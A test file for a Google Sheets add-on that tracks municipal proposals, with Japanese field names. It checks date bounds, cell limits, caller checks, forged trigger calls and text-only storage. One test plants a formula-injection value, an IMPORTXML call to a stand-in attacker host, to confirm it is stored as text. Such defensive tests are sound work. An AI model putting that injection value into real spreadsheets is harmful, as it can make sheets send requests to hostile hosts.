// Boundaries the add-on holds whatever it is sent (issue #15, points 4, 5, 7 and 9), in the real
// bundle: dates within their bounds, text within a cell, callers checked before any write,
// trigger handlers only for real triggers, 設定 values written as text, free text kept as typed.
import { describe, expect, it } from 'vitest';
import { typeInto } from '../../local/runtime/people';
import type { Runtime } from '../../local/runtime/runtime';
import {
  CLOCK_HANDLERS,
  call,
  OUTSIDER,
  OWNER,
  ok,
  PT,
  type Result,
  records,
  registerProps,
  sampleRuntime,
  setUp,
  sheetValues,
  tick,
} from '../helpers';

const NEW = {
  kind: 'ユーザーの困りごと',
  painPoint: '粗大ごみの申込みが電話だけで、つながらない',
  perspective: '市民の目線',
  category: '行政手続きの場面等',
  title: '粗大ごみ受付のオンライン化',
  solution: 'ウェブ申込みとキャッシュレス決済',
  departments: ['環境政策課', 'デジタル推進課'],
};

type View = { proposal: { id: string; [k: string]: unknown }; version: string };

const version = (rt: Runtime, id: string) => ok(call<View>(rt, 'apiGetProposal', { id })).version;

/** Everything a refused call must leave as it was: every sheet, the properties, the outbox. */
const snapshot = (rt: Runtime) =>
  JSON.stringify({ sheets: rt.workbook.sheets, props: rt.state.properties, outbox: rt.state.outbox });

/** Expects a refusal naming `field` (its key in fieldErrors, its Japanese label in the message). */
function refused(r: Result, field: string, label: string, also?: RegExp) {
  expect(r.ok).toBe(false);
  if (r.ok) return;
  expect(r.code).toBe('invalid');
  expect(r.fieldErrors[field]).toContain(label);
  if (also) expect(r.fieldErrors[field]).toMatch(also);
}

/** A department at ① with its 提示日, and the proposal's other facts. */
function presentedRow(rt: Runtime) {
  const row = records(rt, '所管課別進捗').find((r) => r.段階 === '①' && r.提示日)!;
  return { id: row.ID!, department: row.所管課!, presentedOn: row.提示日! };
}

const dayBefore = (iso: string) =>
  new Date(Date.parse(`${iso}T00:00:00Z`) - 86_400_000).toISOString().slice(0, 10);

describe('dates are bounded (効力日, 協議日, 判断, 時点, import)', () => {
  it.each([
    ['R0.1.1', /令和元年5月1日|R7.11.25/],
    ['0100-01-01', /令和元年5月1日/],
    ['2019-04-30', /令和元年5月1日/],
    ['2025-03-31', /令和7年度の初日/],
    ['2025-11-26', /今日/],
    ['9999-12-31', /今日/],
  ])(
    'presenting with 効力日 %s is refused naming 効力日, and nothing is written (no 送信中 row)',
    (date, bound) => {
      const rt = sampleRuntime();
      const id = ok(call<View>(rt, 'apiCreateProposal', NEW)).proposal.id;
      const before = snapshot(rt);
      const r = call(rt, 'apiPresent', { id, departments: ['環境政策課'], effectiveDate: date });
      refused(r, 'effectiveDate', '効力日', bound);
      expect(snapshot(rt)).toBe(before);
      expect(records(rt, '送信記録').filter((m) => m.ID === id)).toEqual([]);
      // The same request on a day within bounds goes through (the refusal was the date's).
      ok(call(rt, 'apiPresent', { id, departments: ['環境政策課'], effectiveDate: '2025-11-20' }));
      expect(records(rt, '所管課別進捗').find((p) => p.ID === id && p.所管課 === '環境政策課')?.段階).toBe(
        '①',
      );
    },
  );

  it('a consultation (②) before the department’s 提示日 is refused naming 協議日; on the 提示日 it is accepted', () => {
    const rt = sampleRuntime();
    const { id, department, presentedOn } = presentedRow(rt);
    const before = snapshot(rt);
    const payload = { id, department, summary: '協議', version: version(rt, id) };
    refused(
      call(rt, 'apiRecordConsultation', { ...payload, date: dayBefore(presentedOn) }),
      'date',
      '協議日',
      /提示日/,
    );
    refused(call(rt, 'apiRecordConsultation', { ...payload, date: '2025-11-26' }), 'date', '協議日', /今日/);
    refused(call(rt, 'apiRecordConsultation', { ...payload, date: 'R0.5.1' }), 'date', '協議日');
    expect(snapshot(rt)).toBe(before);
    ok(call(rt, 'apiRecordConsultation', { ...payload, date: presentedOn }));
    expect(records(rt, '所管課別進捗').find((p) => p.ID === id && p.所管課 === department)).toMatchObject({
      段階: '②',
      協議日: presentedOn,
    });
  });

  it('moving a department to ② or ④ before its 提示日 is refused naming 効力日', () => {
    const rt = sampleRuntime();
    const { id, department, presentedOn } = presentedRow(rt);
    const before = snapshot(rt);
    for (const stage of ['②', '④'])
      refused(
        call(rt, 'apiSetDepartmentStage', {
          id,
          version: version(rt, id),
          department,
          stage,
          effectiveDate: dayBefore(presentedOn),
        }),
        'effectiveDate',
        '効力日',
        /提示日/,
      );
    // Unreadable or pre-令和 days are refused by the schema in Japanese, naming the field too.
    for (const effectiveDate of ['R0.1.1', '0100-01-01', 'きのう'])
      refused(
        call(rt, 'apiSetDepartmentStage', {
          id,
          version: version(rt, id),
          department,
          stage: '②',
          effectiveDate,
        }),
        'effectiveDate',
        '効力日',
        /^効力日/,
      );
    expect(snapshot(rt)).toBe(before);
  });

  it('a 判断 dated before the proposal’s first 提示日 is refused naming 効力日; on that day it is accepted', () => {
    const rt = sampleRuntime();
    const progress = records(rt, '所管課別進捗');
    const open = records(rt, '課題一覧').find(
      (p) => !p.判断 && progress.some((r) => r.ID === p.ID && r.段階 === '②'),
    )!;
    const first = progress
      .filter((r) => r.ID === open.ID && r.提示日)
      .map((r) => r.提示日!)
      .sort()[0]!;
    const before = snapshot(rt);
    const judge = (effectiveDate: string) =>
      call(rt, 'apiRecordJudgment', {
        id: open.ID,
        version: version(rt, open.ID!),
        judgment: '検討継続',
        effectiveDate,
      });
    refused(judge(dayBefore(first)), 'effectiveDate', '効力日', /最初の提示日/);
    expect(snapshot(rt)).toBe(before);
    ok(judge(first));
    expect(records(rt, '課題一覧').find((p) => p.ID === open.ID)).toMatchObject({
      判断: '検討継続',
      判断日: first,
    });
  });

  it('時点 before 令和元年5月1日 or after today is refused naming 時点, 集計 untouched', () => {
    const rt = sampleRuntime();
    const before = snapshot(rt);
    refused(call(rt, 'apiRebuildSummary', { asOf: 'H31.4.30' }, OWNER), 'asOf', '時点', /令和元年5月1日/);
    refused(call(rt, 'apiRebuildSummary', { asOf: 'R0.12.1' }, OWNER), 'asOf', '時点');
    expect(call(rt, 'apiRebuildSummary', { asOf: '2025-11-26' }, OWNER)).toMatchObject({
      ok: false,
      fieldErrors: { asOf: expect.stringContaining('時点') },
    });
    expect(snapshot(rt)).toBe(before);
  });

  it('import: 提示日 before the 年度, 協議日 before 提示日, a future 判断日 or one before the 提示日 are refused by column', () => {
    const rt = sampleRuntime();
    const before = snapshot(rt);
    const head = '種別,場面・分類,困りごと,課題(提案)名,所管課,進捗,提示日,協議日,判断,判断日';
    const row = (rest: string) => `ユーザーの困りごと,行政手続きの場面等,困りごと,題名,${rest}`;
    const csv = [
      head,
      row('環境政策課,①,2025-03-31,,,'),
      row('環境政策課,②,2025-10-01,2025-09-30,,'),
      row('環境政策課,②,2025-10-01,2025-10-02,検討継続,2025-11-26'),
      row('環境政策課,②,2025-10-01,2025-10-02,検討継続,2025-09-15'),
      row('環境政策課,①,R0.10.1,,,'),
    ].join('\n');
    const r = call(rt, 'apiImportCsv', { csv });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.fieldErrors['2:提示日']).toMatch(/提示日は令和7年度の初日/);
    expect(r.fieldErrors['3:協議日']).toMatch(/協議日.*提示日.*より前/);
    expect(r.fieldErrors['4:判断日']).toMatch(/判断日は今日/);
    expect(r.fieldErrors['5:判断日']).toMatch(/判断日は最初の提示日/);
    expect(r.fieldErrors['6:提示日']).toMatch(/日付として読めません/);
    expect(snapshot(rt)).toBe(before);
  });
});

describe('a save fits in its cells, or nothing is written', () => {
  it('a text of 50,000 characters that gains an apostrophe (50,001 stored) is refused whole, naming the field; no orphan row, no burned ID', () => {
    const rt = sampleRuntime();
    const before = snapshot(rt);
    // Starts with '=', so it is stored behind an apostrophe where a cell is not plain text (変更履歴
    // keeps every value): 50,001 characters, more than a cell holds.
    const long = `=${'あ'.repeat(49_999)}`;
    const r = call(rt, 'apiCreateProposal', { ...NEW, painPoint: long });
    refused(r, 'painPoint', '困りごと', /50,000文字/);
    refused(call(rt, 'apiCreateProposal', { ...NEW, solution: 'い'.repeat(50_001) }), 'solution', '解決策');
    expect(snapshot(rt)).toBe(before);
    // The next proposal gets the next ID: none was burned.
    expect(ok(call<View>(rt, 'apiCreateProposal', NEW)).proposal.id).toBe('R7-U18');
  });

  it('exactly 50,000 stored characters are saved, in the cell and in 変更履歴', () => {
    const rt = sampleRuntime();
    const id = ok(call<View>(rt, 'apiCreateProposal', NEW)).proposal.id;
    const full = 'う'.repeat(50_000);
    ok(call(rt, 'apiUpdateProposal', { id, version: version(rt, id), fields: { notes: full } }));
    expect(records(rt, '課題一覧').find((p) => p.ID === id)?.備考).toBe(full);
    expect(records(rt, '変更履歴').find((h) => h.ID === id && h.項目 === '備考')?.新値).toBe(full);
  });

  it('an update and a consultation over the limit are refused naming the field, nothing written', () => {
    const rt = sampleRuntime();
    const { id, department, presentedOn } = presentedRow(rt);
    const before = snapshot(rt);
    refused(
      call(rt, 'apiUpdateProposal', {
        id,
        version: version(rt, id),
        fields: { notes: `=${'x'.repeat(49_999)}` },
      }),
      'notes',
      '備考',
    );
    refused(
      call(rt, 'apiRecordConsultation', {
        id,
        version: version(rt, id),
        department,
        date: presentedOn,
        summary: 'え'.repeat(50_001),
      }),
      'summary',
      '概要',
    );
    expect(snapshot(rt)).toBe(before);
  });

  it('import counts the apostrophe too, and names the column', () => {
    const rt = sampleRuntime();
    const before = snapshot(rt);
    const csv = `種別,場面・分類,困りごと,課題(提案)名\nユーザーの困りごと,行政手続きの場面等,${'9'.repeat(50_000)},題名`;
    const r = call(rt, 'apiImportCsv', { csv });
    expect(r).toMatchObject({
      ok: false,
      fieldErrors: { '2:困りごと': expect.stringMatching(/困りごとが長すぎます/) },
    });
    expect(snapshot(rt)).toBe(before);
  });
});

/** Puts a marker in 集計!A1 without any trigger, to see whether a rebuild happened. */
function markSummary(rt: Runtime, marker = '（手で置いた印）') {
  rt.workbook.sheet('集計')!.ensure(0, 0).v = marker;
  return () => rt.workbook.sheet('集計')!.cell(0, 0)?.v;
}

describe('every public function checks its caller', () => {
  it('rebuilding 集計 (sidebar or menu) needs a role in 設定: refused before any write', () => {
    const rt = sampleRuntime();
    const a1 = markSummary(rt);
    const before = snapshot(rt);
    expect(call(rt, 'apiRebuildSummary', { fiscalYear: 2100 }, OUTSIDER)).toMatchObject({
      ok: false,
      code: 'forbidden',
    });
    expect(call(rt, 'apiRebuildSummary', {}, OUTSIDER)).toMatchObject({ ok: false, code: 'forbidden' });
    rt.execute('menuRebuildSummary', { mode: 'menu', activeUser: OUTSIDER });
    expect(rt.ui.find((u) => u.kind === 'alert')?.message).toMatch(/権限がありません/);
    expect(snapshot(rt)).toBe(before);
    // A 年度 far ahead is refused for anyone; a PT member rebuilds the current one.
    expect(call(rt, 'apiRebuildSummary', { fiscalYear: 2100 }, OWNER)).toMatchObject({
      ok: false,
      fieldErrors: { fiscalYear: expect.stringContaining('年度') },
    });
    expect(a1()).toBe('（手で置いた印）');
    ok(call(rt, 'apiRebuildSummary', {}, PT));
    expect(a1()).toMatch(/令和7年度 課題提案の進捗状況/);
  });

  it('初期設定 by someone other than the owner writes nothing, even when a sheet is missing', () => {
    const rt = sampleRuntime();
    rt.workbook.sheets = rt.workbook.sheets.filter((s) => s.name !== '協議記録');
    rt.workbook.sheet('所管課')!.ensure(0, 1).v = '';
    const before = snapshot(rt);
    expect(setUp(rt, PT)?.message).toMatch(new RegExp(`所有者\\(${OWNER}\\)が実行してください.*協議記録`));
    expect(snapshot(rt)).toBe(before);
    expect(rt.workbook.sheet('協議記録')).toBeUndefined();
    expect(setUp(rt, OWNER)?.message).toMatch(/初期設定を行いました/);
    expect(rt.workbook.sheet('協議記録')).toBeDefined();
    expect(sheetValues(rt, '所管課')[0]).toContain('略称');
  });

  it('trigger handlers called from the answer page or the sidebar with a copied triggerUid do nothing', () => {
    const rt = sampleRuntime();
    const uid = (h: string) => rt.state.triggers.find((t) => t.handler === h)!.id;
    // Something each run would do: a dirty summary for the 10-minute run.
    registerProps(rt).SUMMARY_DIRTY = '1';
    const a1 = markSummary(rt);
    const before = snapshot(rt);
    for (const handler of [...CLOCK_HANDLERS, 'onEditInstalled', 'onChangeInstalled']) {
      const forged = [
        { triggerUid: uid(handler) },
        { triggerUid: uid(handler), authMode: 'FULL', changeType: 'EDIT' },
        { triggerUid: uid(handler), authMode: {}, changeType: 'REMOVE_ROW' },
      ];
      for (const e of forged) {
        rt.callWeb(handler, [e]);
        rt.callWeb(handler, [e], OWNER);
        rt.call(handler, [e], OWNER);
      }
    }
    expect(snapshot(rt)).toBe(before);
    expect(a1()).toBe('（手で置いた印）');
    // The real trigger does its work.
    tick(rt);
    expect(a1()).toMatch(/課題提案の進捗状況/);
    expect(registerProps(rt).SUMMARY_DIRTY).toBe('');
  });

  it('a 設定 value that looks like a formula lands in 集計 as text, never as a formula', () => {
    const rt = sampleRuntime();
    const settings = rt.workbook.sheet('設定')!;
    const rows = sheetValues(rt, '設定');
    const at = (key: string) => rows.findIndex((r) => r[0] === key);
    // What a cell holds once someone typed '=IMPORTXML(…) into it: the text, without the apostrophe.
    const evil = '=IMPORTXML("https://evil.example/","//a")';
    settings.ensure(at('プロジェクト名'), 1).v = evil;
    settings.ensure(at('場面・分類(ユーザー)'), 1).v = '=1+1、行政手続きの場面等';
    ok(call(rt, 'apiRebuildSummary', {}, OWNER));
    const summary = rt.workbook.sheet('集計')!;
    expect(summary.cells.flat().filter((c) => c?.f)).toEqual([]);
    expect(summary.cell(0, 0)?.v).toBe(`${evil} 令和7年度 課題提案の進捗状況（11月25日時点）`);
    expect(sheetValues(rt, '集計').some((r) => r[1] === '=1+1')).toBe(true);
  });
});

const PLAIN = {
  課題一覧: ['ID', '困りごと', '課題(提案)名', '解決策', 'PT担当', 'PT連絡先', '備考', '所管課', '進捗'],
  所管課別進捗: ['所管外の理由', '回答内容'],
  協議記録: ['出席者', '概要', '次の対応', '記録日時'],
  所管課: ['所管課', 'メールアドレス'],
  設定: ['項目', '値'],
};

function formatOf(rt: Runtime, sheet: string, header: string, row: number) {
  const s = rt.workbook.sheet(sheet)!;
  const col = sheetValues(rt, sheet)[0]!.indexOf(header);
  expect(col).toBeGreaterThanOrEqual(0);
  return s.cell(row, col)?.fmt;
}

describe('text stays text: free-text columns are plain text (@)', () => {
  it('setup makes every free-text and list column @ down to the last row; dates stay dates, lists keep their dropdowns', () => {
    const rt = sampleRuntime();
    for (const [sheet, headers] of Object.entries(PLAIN))
      for (const h of headers) {
        expect(formatOf(rt, sheet, h, 1), `${sheet}!${h}`).toBe('@');
        expect(formatOf(rt, sheet, h, rt.workbook.sheet(sheet)!.maxRows - 1), `${sheet}!${h}`).toBe('@');
      }
    expect(formatOf(rt, '所管課別進捗', '提示日', 1)).toBe('yyyy-mm-dd');
    // A list's values come from 設定 or an answer: text, never a formula ("=HYPERLINK(…)" stays text).
    expect(formatOf(rt, '課題一覧', '判断', 1)).toBe('@');
    expect(formatOf(rt, '所管課別進捗', '段階', 1)).toBe('@');
    const judgment = sheetValues(rt, '課題一覧')[0]!.indexOf('判断');
    expect(rt.workbook.sheet('課題一覧')!.cell(1, judgment)?.validation?.values).toEqual([
      '検討継続',
      '検討終了',
    ]);
  });

  it('running 初期設定 again on an existing register applies @ where it was missing', () => {
    const rt = sampleRuntime();
    const s = rt.workbook.sheet('課題一覧')!;
    const col = sheetValues(rt, '課題一覧')[0]!.indexOf('備考');
    for (let r = 1; r < s.maxRows; r++) if (s.cells[r]?.[col]) delete s.cells[r]![col]!.fmt;
    expect(formatOf(rt, '課題一覧', '備考', 5)).toBeUndefined();
    setUp(rt);
    expect(formatOf(rt, '課題一覧', '備考', 5)).toBe('@');
  });

  it('what the sidebar saves and what people type come back exactly as written', () => {
    const rt = sampleRuntime();
    const values = {
      title: '0012',
      painPoint: '1E5',
      solution: '12月1日',
      notes: 'TRUE',
      ptMembers: '10%',
    };
    const id = ok(call<View>(rt, 'apiCreateProposal', { ...NEW, ...values })).proposal.id;
    expect(ok(call<View>(rt, 'apiGetProposal', { id })).proposal).toMatchObject(values);
    const row = records(rt, '課題一覧').find((p) => p.ID === id)!;
    expect(row).toMatchObject({
      '課題(提案)名': '0012',
      困りごと: '1E5',
      解決策: '12月1日',
      備考: 'TRUE',
      PT担当: '10%',
    });
    // Typed by hand into the register: 2025/1/1 and 0012 stay text, and the add-on reads them so.
    const rowNumber = records(rt, '課題一覧').findIndex((p) => p.ID === id) + 2;
    const col = (h: string) => String.fromCharCode(65 + sheetValues(rt, '課題一覧')[0]!.indexOf(h));
    typeInto(rt, `課題一覧!${col('備考')}${rowNumber}`, [['2025/1/1']], { user: PT });
    typeInto(rt, `課題一覧!${col('解決策')}${rowNumber}`, [['0012']], { user: PT });
    const cells = rt.workbook.sheet('課題一覧')!.cells[rowNumber - 1]!;
    expect(cells[sheetValues(rt, '課題一覧')[0]!.indexOf('備考')]?.v).toBe('2025/1/1');
    expect(ok(call<View>(rt, 'apiGetProposal', { id })).proposal).toMatchObject({
      notes: '2025/1/1',
      solution: '0012',
    });
  });
});
